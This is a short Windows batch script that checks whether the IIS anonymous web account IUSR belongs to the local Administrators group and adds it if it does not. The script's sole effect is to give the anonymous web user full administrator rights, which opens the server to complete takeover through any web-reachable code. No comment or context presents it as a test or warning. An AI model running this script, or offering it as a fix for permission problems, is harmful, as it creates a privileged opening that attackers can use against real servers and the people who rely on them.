@echo off
setlocal
set MEMBER=IUSR
net localgroup Administrators | find /i "%MEMBER%" >nul
if errorlevel 1 (
  echo Adding %MEMBER%
  net localgroup Administrators %MEMBER% /add
)
endlocal
